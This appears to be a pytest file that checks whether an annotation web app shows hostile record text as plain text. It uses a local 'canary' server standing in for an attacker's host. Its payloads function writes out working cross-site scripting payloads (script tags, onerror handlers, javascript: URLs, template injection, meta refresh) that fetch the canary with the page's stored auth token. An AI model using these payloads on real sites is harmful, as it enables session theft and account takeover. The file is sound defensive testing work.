"""Whatever a record holds, an annotator's browser shows it as text and runs none of it.

Texts to annotate are scraped or written by models, so every place where one is shown is tried with every way that
is known to us to make a browser act. A canary stands for the attacker's host; the first test proves that it sings.
"""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, NamedTuple

import pytest

CHROMIUM = Path("/usr/bin/chromium")
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = pytest.mark.slow


class Canary(NamedTuple):
    url: str
    heard: list[str]


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    """A host of the attacker's: what it is asked for has leaked. Its own page has no policy."""
    heard: list[str] = []

    class Hears(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>canary</title><body>")

        def log_message(self, *_: Any) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Hears) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Canary(f"http://127.0.0.1:{server.server_port}", heard)
        server.shutdown()


def payloads(evil: str) -> dict[str, str]:
    """Ways to make a browser act, by name. Each says its name to the page and to the attacker."""

    def act(name: str) -> str:
        return (
            f"top.__ran=(top.__ran||[]).concat(`{name}`);top.document.title=`ran`;"
            f"fetch(`{evil}/{name}?`+top.localStorage[`auth._token.local`])"
        )

    return {
        "script": f"<script>{act('script')}</script>",
        "image": f"<img src=x onerror='{act('image')}'>",
        "svg": f"<svg onload='{act('svg')}'><animate onbegin='{act('animate')}' attributeName=x></svg>",
        "frame": f'<iframe srcdoc="<script>{act("frame")}</script>"></iframe>',
        "address": f'<iframe src="javascript:{act("address")}"></iframe><a href="javascript:{act("link")}">go</a>',
        "focus": f"<input autofocus onfocus='{act('focus')}'><details open ontoggle='{act('toggle')}'>d</details>",
        "escape": f"</textarea></title></style></script></iframe>--><script>{act('escape')}</script>",
        "template": "{{constructor.constructor('" + act("template") + "')()}}<div v-html=x @click=y></div>",
        "fetched": (
            f"<img src={evil}/img><link rel=stylesheet href={evil}/css><script src={evil}/js></script>"
            f"<iframe src={evil}/page></iframe><object data={evil}/object></object><embed src={evil}/embed>"
            f"<video src={evil}/video autoplay></video><style>body{{background:url({evil}/style)}}</style>"
        ),
        "led-away": (
            f'<meta http-equiv="refresh" content="0;url={evil}/meta"><base href="{evil}/">'
            f"<form action={evil}/form><button autofocus>b</button></form>"
        ),
        "defaced": "<style>body{display:none!important}</style><h1 style='position:fixed;inset:0'>gone</h1><b>bold</b>",
    }


def markdown(evil: str) -> str:
    """What markdown adds to it."""
    return (
        f'[go](javascript:top.__ran=1) ![seen]({evil}/markdown) ![x](x"onerror="top.__ran=1) <{evil}/auto>\n\n'
        "```html\n<script>top.__ran=1</script>\n```\n\n$\\href{javascript:top.__ran=1}{x}$\n\n"
        f"| a |\n|---|\n| <img src={evil}/cell onerror='top.__ran=1'> |\n"
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.skip(f"no browser ({CHROMIUM})")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


class Tab(NamedTuple):
    """An annotator's page, logged in. `asked` is every address that it asked for, `said` its errors."""

    page: Any
    asked: list[str]
    said: list[str]


@pytest.fixture
def tab(browser: Any, argilla: Any) -> Iterator[Tab]:
    page = browser.new_page(viewport={"width": 1400, "height": 1500})
    tab = Tab(page, [], [])
    page.on("request", lambda request: tab.asked.append(request.url))
    page.on("pageerror", lambda error: tab.said.append(str(error)))
    page.on("dialog", lambda dialog: (tab.said.append(dialog.message), dialog.dismiss()))
    log_in(page, argilla, "ana")
    yield tab
    page.close()


def log_in(page: Any, argilla: Any, name: str) -> None:
    page.goto(f"{argilla.url}/sign-in")
    page.fill("input[type=text]", name)
    page.fill("input[type=password]", argilla.accounts[name].password)
    page.click("button:has-text('Sign in')")
    page.wait_for_selector("text=Your datasets")


def test_the_canary_sings_where_nothing_protects(browser: Any, canary: Canary) -> None:
    page = browser.new_page()
    page.goto(canary.url)
    everything = "".join(payloads(canary.url)[name] for name in ("script", "image", "svg", "frame", "fetched"))
    page.evaluate("html => document.body.appendChild(document.createElement('iframe')).srcdoc = html", everything)
    page.wait_for_function("(top.__ran || []).length >= 4")
    assert set(page.evaluate("top.__ran")) >= {"script", "image", "svg", "frame"}
    page.close()
    assert {path.partition("?")[0] for path in canary.heard} >= {"/script", "/image", "/img", "/css", "/page"}


FIELDS = {
    "plain": {"type": "text", "use_markdown": False},
    "marked": {"type": "text", "use_markdown": True},
    "chat": {"type": "chat", "use_markdown": False},
    "marked_chat": {"type": "chat", "use_markdown": True},
    "custom": {"type": "custom", "template": "<div>{{record.fields.custom.x}}</div>", "advanced_mode": False},
}


def test_no_text_of_a_record_does_anything(
    argilla: Any, api: Any, make_dataset: Any, tab: Tab, canary: Canary, tmp_path: Path
) -> None:
    canary.heard.clear()
    page, attacks = tab.page, payloads(canary.url)
    hostile, formatted = "\n".join(attacks.values()), "\n\n".join([*attacks.values(), markdown(canary.url)])
    short = attacks["image"]  # titles and such have at most some hundred characters
    owner = api(argilla.url, argilla.api_key)
    number = make_dataset(
        owner,
        "crowd",
        guidelines=formatted,
        fields=[{"name": name, "title": short, "required": False, "settings": said} for name, said in FIELDS.items()],
        questions=[
            {"name": "say", "title": "Say", "description": short, "required": True, "settings": {"type": "text"}},
            {
                "name": "label",
                "title": short,
                "required": False,
                "settings": {
                    "type": "label_selection",
                    "options": [{"value": "a", "text": short}, {"value": "b", "text": "b"}],
                },
            },
        ],
    )
    terms = {"name": "terms", "title": short, "settings": {"type": "terms"}, "visible_for_annotators": True}
    assert owner.post(f"/datasets/{number}/metadata-properties", json=terms).is_success
    say = owner.get(f"/datasets/{number}/questions").json()["items"][0]["id"]
    record = {
        "fields": {
            "plain": hostile,
            "marked": formatted,
            "chat": [{"role": hostile[:20], "content": hostile}, {"role": "user", "content": "second"}],
            "marked_chat": [{"role": "user", "content": formatted}],
            "custom": {"x": f"</script>{hostile}"},
        },
        "metadata": {"terms": short},
        "suggestions": [{"question_id": say, "value": hostile, "agent": "script", "score": 0.5}],
    }
    made = owner.post(f"/datasets/{number}/records/bulk", json={"items": [record]})
    assert made.is_success, made.text

    page.goto(f"{argilla.url}/dataset/{number}/annotation-mode")
    page.wait_for_selector(".text_field_component")
    page.wait_for_timeout(1000)
    page.screenshot(path=tmp_path / "hostile.png")

    # As text: what is not markdown character by character, and HTML within markdown as its source.
    shown = page.locator(".text_field_component .content-area > div")
    assert shown.nth(0).text_content() == hostile
    chats = page.locator(".chat")
    assert [bubble.text_content() for bubble in chats.nth(0).locator(".chat__bubble > span").all()] == [
        hostile,
        "second",
    ]
    for place in (page.locator(".text_field_component").nth(1), chats.nth(1)):
        source = place.text_content().replace("`", "")  # which markdown makes code of
        for name in ("script", "image", "svg", "frame", "escape", "fetched", "led-away", "defaced"):
            assert attacks[name].replace("`", "") in source, name
        assert f"![seen]({canary.url}/markdown)" in source
        assert place.locator("script, img, iframe, object, embed, form, style:not([scoped]), input").count() == 0
    suggested = page.locator("[contenteditable], textarea").first
    assert attacks["script"] in (suggested.text_content() or suggested.input_value())

    # Everywhere else that an annotator can go.
    page.hover(".icon-info")
    page.click("text=Guidelines")
    page.wait_for_timeout(500)
    assert attacks["script"] in page.text_content("body")
    page.screenshot(path=tmp_path / "guidelines.png")
    page.click("text=Filters")
    page.wait_for_timeout(1000)
    page.screenshot(path=tmp_path / "filters.png")
    page.keyboard.press("Escape")

    nothing_happened(tab, argilla, canary)
    works_still(tab, owner, number)


def nothing_happened(tab: Tab, argilla: Any, canary: Canary) -> None:
    assert tab.page.evaluate("top.__ran") is None
    assert tab.page.title() == "Argilla"
    assert tab.page.url.startswith(argilla.url)
    assert [url for url in tab.asked if not url.startswith((argilla.url, "data:", "about:", "blob:"))] == []
    assert canary.heard == []
    assert tab.said == []


def works_still(tab: Tab, owner: Any, number: str) -> None:
    with tab.page.expect_response(lambda answer: answer.url.endswith("/responses")) as answered:
        tab.page.click("button:has-text('Submit')")
    assert answered.value.status == 201
    (record,) = owner.get(f"/datasets/{number}/records?include=responses").json()["items"]
    assert record["responses"][0]["status"] == "submitted"
